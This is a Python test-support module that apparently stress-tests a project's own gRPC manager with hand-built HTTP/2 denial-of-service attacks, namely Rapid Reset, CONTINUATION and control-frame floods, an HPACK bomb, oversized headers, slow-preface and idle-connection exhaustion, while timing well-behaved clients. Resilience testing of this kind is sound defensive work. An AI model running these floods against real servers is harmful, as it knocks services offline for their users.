"""HTTP/2 attacks on the manager's gRPC port, over raw sockets (python3-h2 refuses to misbehave,
so frames are built here; header blocks use python3-hpack), and the measurements around them:
the manager's RSS and CPU from /proc, and well-behaved clients (a grpcio Ping and an HTTP/1.1
GET /health on the admin port) timed while an attack runs.

Used by test/integration/test_h2_abuse.py (short, pass/fail) and bench/abuse/run.py (longer,
a table). Every attack returns a dict: frames and bytes sent, seconds, and how the connection
ended ("GOAWAY ENHANCE_YOUR_CALM", "RST_STREAM ...", "closed", "open")."""
import os
import socket
import struct
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
          4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR",
          7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR",
          11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}
PING_PATH = "/scan.AgentService/Ping"
CONNECT_PATH = "/scan.AgentService/Connect"


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", sid & 0x7FFFFFFF) + payload


def request_headers(path=PING_PATH, extra=()):
    return [(":method", "POST"), (":scheme", "http"), (":authority", "manager"),
            (":path", path), ("content-type", "application/grpc"), ("te", "trailers")] + \
        list(extra)


def grpc_msg(payload):
    return struct.pack(">BI", 0, len(payload)) + payload


class Conn:
    """A raw HTTP/2 client connection. send() never blocks longer than the socket timeout;
    poll() reads what the server sent and records GOAWAY / RST_STREAM / EOF."""

    def __init__(self, addr, timeout=5.0, preface=True, settings=b""):
        host, port = addr.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.statuses = []      # grpc-status of the answers, in order
        self.buf = b""
        self.goaway = None      # error code
        self.goaway_debug = b""
        self.resets = {}        # error code -> count
        self.eof = None         # "closed" (FIN) or "reset" (RST) once the server closed
        self.frames_in = {}
        self.headers_in = 0
        self.sent = 0
        self.bytes = 0
        if preface:
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data, count=1):
        """False when the server no longer takes bytes (closed, or not reading: timeout)."""
        if self.eof:
            return False
        try:
            self.sock.sendall(data)
        except socket.timeout:
            return False
        except OSError:
            self.eof = "reset"
            return False
        self.sent += count
        self.bytes += len(data)
        return True

    def poll(self, timeout=0.0):
        """Reads once (waiting up to timeout); returns False on EOF or nothing to read."""
        if self.eof:
            return False
        self.sock.settimeout(timeout if timeout > 0 else 0.0001)
        try:
            data = self.sock.recv(1 << 16)
        except (socket.timeout, BlockingIOError):
            return False
        except OSError:
            self.eof = "reset"
            return False
        finally:
            self.sock.settimeout(5.0)
        if not data:
            self.eof = "closed"
            return False
        self.buf += data
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                break
            t, fl, sid = self.buf[3], self.buf[4], int.from_bytes(self.buf[5:9], "big")
            p = self.buf[9:9 + n]
            self.buf = self.buf[9 + n:]
            self.frames_in[t] = self.frames_in.get(t, 0) + 1
            if t == GOAWAY and len(p) >= 8:
                self.goaway = int.from_bytes(p[4:8], "big")
                self.goaway_debug = p[8:]
            elif t == RST_STREAM and len(p) >= 4:
                code = int.from_bytes(p[:4], "big")
                self.resets[code] = self.resets.get(code, 0) + 1
            elif t == HEADERS:
                self.headers_in += 1
                try:
                    for k, v in self.dec.decode(p[5 if fl & 0x20 else 0:]):
                        if k in (b"grpc-status", "grpc-status"):
                            self.statuses.append(int(v))
                except Exception:  # noqa: BLE001 - padding, CONTINUATION: not ours to check
                    pass
        return True

    def drain(self, seconds=0.0):
        """Reads until EOF or `seconds` pass without anything to read."""
        if seconds <= 0:
            while self.poll():
                pass
            return
        end = time.monotonic() + seconds
        while not self.eof:
            if not self.poll(max(0.05, min(0.5, end - time.monotonic()))):
                if time.monotonic() >= end:
                    break

    def wait_end(self, seconds):
        """Reads until the server closes or `seconds` pass; returns ended()."""
        end = time.monotonic() + seconds
        while not self.eof and time.monotonic() < end:
            self.poll(0.2)
        return self.ended()

    def ended(self):
        parts = []
        if self.goaway is not None:
            parts.append("GOAWAY " + ERRORS.get(self.goaway, str(self.goaway)))
        for code, n in sorted(self.resets.items()):
            parts.append(f"RST_STREAM {ERRORS.get(code, code)} x{n}")
        parts.append(self.eof and ("TCP " + self.eof) or "open")
        return ", ".join(parts)

    def headers_block(self, hdrs):
        return self.enc.encode(hdrs)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def _result(c, t0, what=""):
    return {"frames": c.sent, "bytes": c.bytes, "seconds": time.monotonic() - t0,
            "end": c.ended(), "goaway": c.goaway, "eof": c.eof, "resets": dict(c.resets),
            "note": what}


def _until(t0, seconds, c):
    return time.monotonic() - t0 < seconds and not c.eof and c.goaway is None


# ---- the attacks ----

def rapid_reset(addr, seconds=5.0, batch=100):
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL) at once, stream after stream."""
    c = Conn(addr)
    t0 = time.monotonic()
    sid = 1
    block = None
    while _until(t0, seconds, c):
        out = []
        for _ in range(batch):
            block = c.headers_block(request_headers())
            out.append(frame(HEADERS, END_HEADERS, sid, block))
            out.append(frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))
            sid += 2
            if sid >= 1 << 31:
                break
        if not c.send(b"".join(out), count=batch):
            break
        c.poll()
    c.wait_end(3)
    r = _result(c, t0)
    r["rate_unit"] = "streams"
    c.close()
    return r


def continuation_flood(addr, seconds=5.0, payload=True):
    """CVE-2024-27316 family: HEADERS without END_HEADERS, then CONTINUATION frames forever."""
    c = Conn(addr)
    t0 = time.monotonic()
    c.send(frame(HEADERS, 0, 1, c.headers_block(request_headers())))
    lit = b"\x40\x01x\x0f" + b"y" * 15  # literal with indexing: "x: yyy..", 19 bytes
    chunk = b"".join(frame(CONTINUATION, 0, 1, lit if payload else b"")
                     for _ in range(64))
    while _until(t0, seconds, c):
        if not c.send(chunk, count=64):
            break
        c.poll()
    c.wait_end(3)
    r = _result(c, t0)
    c.close()
    return r


def settings_flood(addr, seconds=5.0, read=False):
    """SETTINGS frames (each wants an ACK) as fast as possible, never reading the ACKs."""
    c = Conn(addr, timeout=1.0)
    t0 = time.monotonic()
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))
    chunk = one * 256
    while _until(t0, seconds, c):
        if not c.send(chunk, count=256):
            break
        if read:
            c.drain()
    c.wait_end(5)
    r = _result(c, t0)
    c.close()
    return r


def settings_many_entries(addr):
    """One SETTINGS frame with 100 entries (nghttp2 allows 32)."""
    c = Conn(addr)
    t0 = time.monotonic()
    c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 100))
    c.wait_end(5)
    r = _result(c, t0)
    c.close()
    return r


def ping_flood(addr, seconds=5.0):
    """PING frames (each wants an ACK) as fast as possible, never reading the ACKs."""
    c = Conn(addr, timeout=1.0)
    t0 = time.monotonic()
    chunk = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(256))
    while _until(t0, seconds, c):
        if not c.send(chunk, count=256):
            break
    c.wait_end(5)
    r = _result(c, t0)
    c.close()
    return r


def empty_data_flood(addr, seconds=5.0):
    """A stream opened, then empty DATA frames without END_STREAM, forever."""
    c = Conn(addr)
    t0 = time.monotonic()
    c.send(frame(HEADERS, END_HEADERS, 1, c.headers_block(request_headers())))
    chunk = frame(DATA, 0, 1) * 512
    while _until(t0, seconds, c):
        if not c.send(chunk, count=512):
            break
        c.poll()
    c.wait_end(1)
    r = _result(c, t0)
    c.close()
    return r


def window_update_flood(addr, seconds=5.0):
    """WINDOW_UPDATE(increment 1) on the connection, forever."""
    c = Conn(addr)
    t0 = time.monotonic()
    chunk = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 512
    while _until(t0, seconds, c):
        if not c.send(chunk, count=512):
            break
        c.poll()
    c.wait_end(1)
    r = _result(c, t0)
    c.close()
    return r


def window_overflow(addr):
    """The connection window pushed past 2^31-1: FLOW_CONTROL_ERROR (RFC 9113 6.9.1)."""
    c = Conn(addr)
    t0 = time.monotonic()
    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)))
    c.wait_end(5)
    r = _result(c, t0)
    c.close()
    return r


def huge_headers(addr, seconds=5.0, field=8000, continuations=7, max_requests=0):
    """Header blocks of 16 KiB + `continuations` x 16 KiB of literal fields (never indexed),
    each request on its own stream, as fast as possible."""
    c = Conn(addr)
    t0 = time.monotonic()
    sid = 1
    n = 0
    while _until(t0, seconds, c):
        lits = b"".join(b"\x10" + hpack_str(b"x-big-%d" % i) + hpack_str(b"v" * field)
                        for i in range(2 * (continuations + 1)))
        block = c.headers_block(request_headers()) + lits
        pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        out = [frame(HEADERS, END_STREAM | (END_HEADERS if len(pieces) == 1 else 0), sid,
                     pieces[0])]
        for j, p in enumerate(pieces[1:]):
            out.append(frame(CONTINUATION, END_HEADERS if j == len(pieces) - 2 else 0, sid, p))
        if not c.send(b"".join(out), count=len(out)):
            break
        n += 1
        sid += 2
        c.drain()
        if max_requests and n >= max_requests:
            break
    c.drain(2)
    r = _result(c, t0)
    r["requests"] = n
    r["answers"] = c.headers_in
    r["statuses"] = sorted(set(c.statuses))
    c.close()
    return r


def hpack_str(b):
    """An HPACK string literal (not Huffman-coded)."""
    n = len(b)
    if n < 127:
        return bytes([n]) + b
    out = bytearray([127])
    n -= 127
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out) + b


def hpack_bomb(addr, seconds=5.0, value=4000, continuations=0, max_requests=0):
    """A 4000-byte header put into the server's HPACK table (4 KiB), then referenced once per
    byte of every further request's header block: 64 MB of headers per 16 KiB frame, and
    `continuations` CONTINUATION frames of 16 KiB references more."""
    c = Conn(addr)
    t0 = time.monotonic()
    # index 62 = the newest dynamic entry; 0x80|62 = 0xbe
    first = c.headers_block(request_headers()) + b"\x40" + hpack_str(b"x-bomb") + \
        hpack_str(b"b" * value)
    c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, first))
    sid = 3
    n = 0
    while _until(t0, seconds, c):
        # the pseudo-headers first: literal without indexing, so the bomb stays at index 62
        block = b"".join(b"\x00" + hpack_str(k.encode()) + hpack_str(v.encode())
                         for k, v in request_headers())
        block += b"\xbe" * (16384 - len(block))
        out = [frame(HEADERS, END_STREAM | (0 if continuations else END_HEADERS), sid, block)]
        for j in range(continuations):
            out.append(frame(CONTINUATION, END_HEADERS if j == continuations - 1 else 0, sid,
                             b"\xbe" * 16384))
        if not c.send(b"".join(out), count=len(out)):
            break
        sid += 2
        n += 1
        c.drain()
        if max_requests and n >= max_requests:
            break
    c.drain(2)
    r = _result(c, t0)
    r["requests"] = n
    r["answers"] = c.headers_in
    r["statuses"] = sorted(set(c.statuses))
    c.close()
    return r


def slow_preface(addr, seconds=5.0, interval=0.5):
    """The client preface trickled one byte per interval; returns how long the server kept
    the connection."""
    c = Conn(addr, preface=False)
    t0 = time.monotonic()
    data = PREFACE + frame(SETTINGS, 0, 0)
    i = 0
    while _until(t0, seconds, c):
        if not c.send(data[i % len(data):i % len(data) + 1]):
            break
        i += 1
        c.poll(interval)
    r = _result(c, t0)
    c.close()
    return r


def idle_connections(addr, count=500, hold=2.0, preface=True):
    """`count` connections that send the preface (or nothing) and then sit."""
    conns = []
    t0 = time.monotonic()
    refused = 0
    for _ in range(count):
        try:
            conns.append(Conn(addr, preface=preface))
        except OSError:
            refused += 1
    time.sleep(hold)
    for c in conns:
        c.poll()
    ended = sum(1 for c in conns if c.eof or c.goaway is not None)
    r = {"frames": len(conns), "bytes": 0, "seconds": time.monotonic() - t0,
         "end": f"{ended} of {len(conns)} closed by the server, {refused} refused at connect",
         "conns": conns}
    return r


def zero_window_connect(addr, agent_id="stalled", window=0):
    """A Connect stream whose client advertises a zero stream window and never reads: the
    server has commands to send and cannot. Returns the open Conn (the caller submits commands
    and watches)."""
    import google.protobuf  # noqa: F401 - only to fail early without protobuf
    c = Conn(addr, settings=struct.pack(">HI", 4, window))
    # AgentMessage{agent_id=1 (string), status=2 (IDLE=1)}: hand-encoded
    aid = agent_id.encode()
    msg = b"\x0a" + bytes([len(aid)]) + aid + b"\x10\x01"
    c.send(frame(HEADERS, END_HEADERS, 1, c.headers_block(request_headers(CONNECT_PATH))))
    c.send(frame(DATA, 0, 1, grpc_msg(msg)))
    return c


# ---- measurements ----

def proc_status(pid, field):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    return 0


def proc_cpu(pid):
    """User + system CPU seconds of the process."""
    with open(f"/proc/{pid}/stat") as f:
        parts = f.read().rsplit(")", 1)[1].split()
    return (int(parts[11]) + int(parts[12])) / os.sysconf("SC_CLK_TCK")


def sanitized(pid):
    with open(f"/proc/{pid}/maps") as f:
        return "libasan" in f.read()


class Probe:
    """Well-behaved clients in a thread while an attack runs: a grpcio Ping (one channel,
    reused) and an HTTP/1.1 GET /health on one keep-alive connection, every `interval`."""

    def __init__(self, grpc_addr, admin_port, interval=0.05, ping=None):
        self.grpc_addr, self.admin_port, self.interval = grpc_addr, admin_port, interval
        self.ping_fn = ping
        self.ping_ms, self.health_ms, self.failures = [], [], []
        self._stop = threading.Event()
        self._t = None

    def _health(self, s):
        t = time.monotonic()
        s.sendall(b"GET /health HTTP/1.1\r\nHost: m\r\n\r\n")
        buf = b""
        while b"\r\n\r\n" not in buf or not buf.rstrip().endswith(b"}"):
            b = s.recv(4096)
            if not b:
                raise OSError("admin closed the connection")
            buf += b
        if not buf.startswith(b"HTTP/1.1 200"):
            raise OSError("health: " + buf[:40].decode(errors="replace"))
        return (time.monotonic() - t) * 1000

    def _run(self):
        s = None
        while not self._stop.is_set():
            try:
                t = time.monotonic()
                self.ping_fn(5.0)
                self.ping_ms.append((time.monotonic() - t) * 1000)
            except Exception as e:  # noqa: BLE001 - recorded, the caller asserts
                self.failures.append(f"ping: {e!r}"[:200])
            try:
                if s is None:
                    s = socket.create_connection(("127.0.0.1", self.admin_port), timeout=5)
                self.health_ms.append(self._health(s))
            except Exception as e:  # noqa: BLE001
                self.failures.append(f"health: {e!r}"[:200])
                s = None
            self._stop.wait(self.interval)
        if s:
            s.close()

    def __enter__(self):
        self._t = threading.Thread(target=self._run, daemon=True)
        self._t.start()
        return self

    def __exit__(self, *exc):
        self._stop.set()
        self._t.join(10)

    @staticmethod
    def pct(xs, p):
        if not xs:
            return float("nan")
        xs = sorted(xs)
        return xs[min(len(xs) - 1, int(round(p / 100 * (len(xs) - 1))))]

    def summary(self):
        return (f"ping n={len(self.ping_ms)} p50={self.pct(self.ping_ms, 50):.1f}ms "
                f"p99={self.pct(self.ping_ms, 99):.1f}ms max={max(self.ping_ms or [0]):.1f}ms; "
                f"health n={len(self.health_ms)} p50={self.pct(self.health_ms, 50):.1f}ms "
                f"p99={self.pct(self.health_ms, 99):.1f}ms; failures={len(self.failures)}")


def grpc_pinger(grpc_addr, pb):
    """A function timeout -> None doing one unary Ping on a reused grpcio channel."""
    import grpc
    ch = grpc.insecure_channel(grpc_addr)
    stub = pb.agent_pb2_grpc.AgentServiceStub(ch)
    req = pb.agent_pb2.PingRequest(agent_id="probe")

    def ping(timeout):
        assert stub.Ping(req, timeout=timeout).message == "pong"
    ping.channel = ch
    return ping
